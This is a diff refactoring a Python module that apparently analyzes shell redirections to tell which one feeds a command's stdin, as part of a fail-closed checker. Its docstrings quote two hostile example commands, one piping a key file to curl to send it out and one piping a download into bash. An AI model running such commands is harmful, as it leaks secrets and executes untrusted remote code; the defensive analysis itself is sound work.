@@ -1,4 +1,4 @@
-"""Which redirection of a simple command is its stdin.
+"""Where a simple command's redirections lead: which is its stdin, and what each descriptor holds.
 
 A command's redirections are ``(op, target)`` pairs (``pipeline.analysis.shell.syntax_command``):
 ``<``, ``<>``, ``<<`` (a here-document, its target the body's placeholder), ``<<<`` (a
@@ -34,17 +34,21 @@ def base_op(op: str) -> str:
     return op.lstrip("0123456789")
 
 
+def _last_on_stdin(redirs: list[tuple[str, str]]) -> tuple[str, str] | None:
+    """The last redirection on descriptor 0 (of redirections :func:`through_opened` resolved:
+    a ``<&N`` left there is a copy of a descriptor not known here)."""
+    return next((r for r in reversed(redirs) if r[0] in STDIN_OPS or r[0] == "<&"), None)
+
+
 def stdin_redirect(redirs: list[tuple[str, str]]) -> tuple[str, str] | None:
-    """The redirection that is the command's stdin: the last on descriptor 0, if any (of
-    redirections :func:`through_opened` resolved). A duplication left unresolved there
-    (``<&3`` of what is not known here, ``< /dev/stdin``: the pipe's own copy) leaves stdin
-    as it was (fail closed: the pipe is read); ``<&-`` closes it (nothing is read)."""
-    for op, target in reversed(redirs):
-        if op in STDIN_OPS:
-            return op, target
-        if op == "<&":
-            return ("<", "/dev/null") if target == "-" else None
-    return None
+    """The redirection that is the command's stdin: the last on descriptor 0, if any. A
+    duplication left unresolved there (``<&3`` of what is not known here, ``< /dev/stdin``:
+    the pipe's own copy) leaves stdin as it was (fail closed: the pipe is read); ``<&-``
+    closes it (nothing is read)."""
+    last = _last_on_stdin(redirs)
+    if last is None or last[0] != "<&":
+        return last
+    return ("<", "/dev/null") if last[1] == "-" else None
 
 
 def keeps_stdin(redirs: list[tuple[str, str]]) -> bool:
@@ -52,12 +56,8 @@ def keeps_stdin(redirs: list[tuple[str, str]]) -> bool:
     after ``3<&0``, inside a compound that redirects its own): it may be what stdin was
     before any redirection (``cat key | { curl -d @- URL <&3; } 3<&0 < /dev/null`` sends the
     key); the caller keeps that too (fail closed)."""
-    for op, target in reversed(redirs):
-        if op in STDIN_OPS:
-            return False
-        if op == "<&":
-            return target != "-"
-    return False
+    last = _last_on_stdin(redirs)
+    return last is not None and last[0] == "<&" and last[1] != "-"
 
 
 # a path that names a descriptor (Linux): a redirection to it duplicates that descriptor
@@ -65,24 +65,19 @@ _FD_PATH = re.compile(r"^/(?:dev/fd|proc/[^/]+/fd)/(\d+)$")
 _STD_PATHS = {"/dev/stdin": "0", "/dev/stdout": "1", "/dev/stderr": "2"}
 
 
-def names_stdin(word: str) -> bool:
-    """True for a program argument that is stdin: ``-``, ``/dev/stdin``, ``/dev/fd/0``,
-    ``/proc/self/fd/0`` however spelled (``curl URL | bash /dev/stdin`` runs what arrives)."""
-    if word == "-":
-        return True
-    if not word.startswith("/"):
-        return False
-    path = posixpath.normpath("/" + word.lstrip("/"))
-    m = _FD_PATH.match(path)
-    return _STD_PATHS.get(path) == "0" or (m is not None and m.group(1) == "0")
-
-
 def fd_of_path(word: str) -> str | None:
-    """The descriptor a path names (``/dev/fd/3``, ``/proc/self/fd/3``: 3; ``/dev/stdin``: 0)."""
+    """The descriptor a path names, however spelled (``/dev/fd/3``, ``/proc/self/fd/3``,
+    ``//dev/./fd/3``: 3; ``/dev/stdin``: 0)."""
     if not word.startswith("/"):
         return None
     path = posixpath.normpath("/" + word.lstrip("/"))
     return _STD_PATHS.get(path) or (m.group(1) if (m := _FD_PATH.match(path)) else None)
+
+
+def names_stdin(word: str) -> bool:
+    """True for a program argument that is stdin: ``-``, ``/dev/stdin``, ``/dev/fd/0``,
+    ``/proc/self/fd/0`` however spelled (``curl URL | bash /dev/stdin`` runs what arrives)."""
+    return word == "-" or fd_of_path(word) == "0"
 
 
 def unknown_fd(word: str, fds: Opened) -> bool:
@@ -96,10 +91,7 @@ def _as_duplication(op: str, target: str) -> tuple[str, str]:
     """``< /dev/stdin``, ``> /dev/fd/3``, ``< /proc/self/fd/0`` (also spelled ``/dev/./stdin``,
     ``//dev/stdin``) as the duplications they are: ``<&0``, ``>&3``, ``<&0``."""
     base = base_op(op)
-    if base not in ("<", "<>", ">", ">>", ">|") or not target.startswith("/"):
-        return op, target
-    path = posixpath.normpath("/" + target.lstrip("/"))
-    n = _STD_PATHS.get(path) or (m.group(1) if (m := _FD_PATH.match(path)) else None)
+    n = fd_of_path(target) if base in ("<", "<>", ">", ">>", ">|") else None
     if n is None:
         return op, target
     return op[:len(op) - len(base)] + ("<&" if base.startswith("<") else ">&"), n
